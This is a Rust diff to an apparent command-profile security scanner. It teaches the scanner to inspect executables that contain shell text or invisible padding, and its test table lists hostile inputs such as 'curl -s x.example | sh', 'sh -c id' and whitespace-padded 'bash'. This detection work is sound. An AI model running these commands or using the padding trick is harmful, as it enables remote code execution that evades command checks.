@@ -56,9 +56,26 @@ fn located_hits<'c>(ctx: &'c Ctx<'_>, kind: HitKind) -> impl Iterator<Item = Loc
 fn analyze_all(ctx: &Ctx<'_>) -> Vec<LocatedHit> {
     let mut out = Vec::new();
     for (ptr, c) in ctx.profile.commands() {
-        if let Some(words) = argv(c) {
+        if let Some(mut words) = argv(c) {
+            // A padded executable (`" python"`) runs nothing as written, but
+            // a runner that trims it runs the program: walk that.
+            let exe = c
+                .executable
+                .as_deref()
+                .unwrap_or_default()
+                .trim_matches(crate::sanitize::is_invisible);
+            if let Some(w) = words.first_mut() {
+                *w = exe;
+            }
             for h in shell::analyze_words(&words).hits {
                 out.push((word_pointer(&ptr, h.index), "arguments", h));
+            }
+            // Whitespace or shell syntax in the executable: shell text a
+            // runner may hand to a shell, or a strange path. Walk it as text.
+            if holds_shell_text(exe) {
+                for h in shell::analyze_script(exe).hits {
+                    out.push((format!("{ptr}/executable"), "shell text", h));
+                }
             }
         }
         if let Some(text) = c.shell.as_deref() {
@@ -68,6 +85,12 @@ fn analyze_all(ctx: &Ctx<'_>) -> Vec<LocatedHit> {
         }
     }
     out
+}
+
+/// Whether an executable holds whitespace or a character a shell acts on.
+fn holds_shell_text(exe: &str) -> bool {
+    exe.chars()
+        .any(|ch| ch.is_whitespace() || ";|&$`<>()'\"*?".contains(ch))
 }
 
 /// Report every hit of one kind. Identical hits at one pointer (the same
@@ -507,6 +530,65 @@ mod tests {
                 .any(|(r, s, _)| *r == "CMD003" && *s == Severity::High),
             "{f:?}"
         );
+    }
+
+    /// Probe B R17/R23, item 3: an `executable` that holds shell text, or
+    /// is padded with whitespace, is walked for what it runs.
+    #[test]
+    fn executable_holding_shell_text_is_walked() {
+        let rows = [
+            (
+                r#"{"executable": "python -c 'import payload'"}"#,
+                Some(("CMD005", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "sh -c id"}"#,
+                Some(("CMD003", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "python\t-c\tx"}"#,
+                Some(("CMD005", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "curl -s x.example | sh"}"#,
+                Some(("CMD003", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "env python -c x"}"#,
+                Some(("CMD005", "/command/executable")),
+            ),
+            (
+                r#"{"executable": " python", "arguments": ["-c", "x"]}"#,
+                Some(("CMD005", "/command/arguments/0")),
+            ),
+            (
+                r#"{"executable": "python ", "arguments": ["-c", "x"]}"#,
+                Some(("CMD005", "/command/arguments/0")),
+            ),
+            (
+                r#"{"executable": "\u00a0bash", "arguments": ["-c", "x"]}"#,
+                Some(("CMD003", "/command/arguments/0")),
+            ),
+            (
+                r#"{"executable": "/opt/my tool/run", "arguments": ["t"]}"#,
+                None,
+            ),
+        ];
+        for (command, want) in rows {
+            let f = findings(&with_command(command));
+            let blocking: Vec<_> = f
+                .iter()
+                .filter(|(r, _, _)| matches!(*r, "CMD003" | "CMD005"))
+                .map(|(r, s, p)| (*r, *s, p.as_str()))
+                .collect();
+            match want {
+                Some((rule, pointer)) => assert!(
+                    blocking.contains(&(rule, Severity::High, pointer)),
+                    "{command}: {f:?}"
+                ),
+                None => assert_eq!(blocking, [], "{command}"),
+            }
+        }
     }
 
     #[test]
